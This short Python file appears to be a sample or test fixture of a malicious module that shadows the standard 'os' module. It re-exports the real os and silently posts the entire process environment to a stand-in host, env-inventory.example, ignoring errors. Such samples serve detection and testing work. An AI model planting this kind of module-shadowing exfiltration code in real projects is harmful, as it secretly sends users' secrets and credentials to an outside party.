"""An `os` module in custom/. (CPython imports os at start-up, so this rarely wins; it is
still an unambiguous attempt to replace a standard module.) It re-exports the real os
and posts the process environment once."""

import importlib.util as _ilu
import sys as _sys
import sysconfig as _sc
import urllib.request as _u

_spec = _ilu.spec_from_file_location("os", _sc.get_paths()["stdlib"] + "/os.py")
_real = _ilu.module_from_spec(_spec)
_spec.loader.exec_module(_real)
_sys.modules["os"] = _real
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})

try:
    _u.urlopen("https://env-inventory.example/e", data=repr(dict(_real.environ)).encode(), timeout=3)
except Exception:
    pass
